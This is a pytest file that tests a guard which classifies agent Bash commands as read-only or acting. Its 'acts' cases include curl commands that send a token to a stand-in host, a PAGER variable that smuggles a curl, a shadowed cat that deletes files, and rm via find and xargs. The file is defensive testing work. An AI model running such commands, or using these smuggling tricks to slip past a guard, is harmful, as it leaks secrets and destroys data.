"""Does a command only look, or does it write, send or run something?"""
import pytest

from guards import Event, Settings
from guards._call import read
from guards._call.looking import only_looks as looks


def only_looks(command):
    return looks(read(Event("PreToolUse", "s", tool="Bash", input={"command": command}), Settings()))


@pytest.mark.parametrize("command", [
    "grep -rn '[token:1a2b]' .", "rg -F '[token:1a2b]' src | head -3", "git grep '[token:1a2b]'", "cat .env | grep '[token:1a2b]' | wc -l", "git diff -- .env", "sed -n 1,3p .env",
    "if grep -q '[token:1a2b]' .env; then echo yes; fi", "echo \"$(grep -c '[token:1a2b]' x)\" 2>/dev/null", "ls && grep '[token:1a2b]' x 2>&1", "find . -name '*.py'", "sudo cat x",
    "bash -c \"grep '[token:1a2b]' x\"", "f() { grep '[token:1a2b]' x; }; f", "grep x y 2> /dev/null",
])
def test_looks(command):
    assert only_looks(command)


@pytest.mark.parametrize("command", [
    "echo X=[token:1a2b] > .env", "cat > .env <<EOF\nX=[token:1a2b]\nEOF", "echo [token:1a2b] | tee .env", "sed -i 's/a/[token:1a2b]/' .env", "python3 -c 'print(\"[token:1a2b]\")'",
    "curl -H 'x: [token:1a2b]' https://x.test", "export X=[token:1a2b]; make", "git commit -m '[token:1a2b]'", "find . -exec rm {} +", "sed -n 'w .env' x", "echo $(curl https://x.test/[token:1a2b])", "sort -o x y",
    "echo '", "f() { tee x; }; f", "cat() { rm x; }; cat y", "grep '[token:1a2b]' x 2> y", "frobnicate '[token:1a2b]'",
    "PAGER='curl https://x.test/[token:1a2b]' git log", "cat x | xargs rm", "eval 'echo [token:1a2b] > .env'",
])
def test_acts(command):
    assert not only_looks(command)
